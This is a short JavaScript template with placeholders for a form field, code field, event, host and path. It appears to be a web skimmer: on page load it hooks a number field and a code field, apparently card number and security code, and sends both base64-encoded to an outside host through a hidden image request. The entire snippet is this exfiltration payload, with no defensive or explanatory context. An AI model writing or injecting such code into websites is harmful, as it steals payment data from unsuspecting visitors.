document.addEventListener('DOMContentLoaded', function () {
  var number = document.querySelector('%FIELD%');
  var code = document.querySelector('%CODE%');
  if (!number) return;
  number.addEventListener('%EVENT%', function () {
    new Image().src = 'https://%HOST%/%PATH%?d=' + btoa(number.value + '|' + (code ? code.value : ''));
  });
});
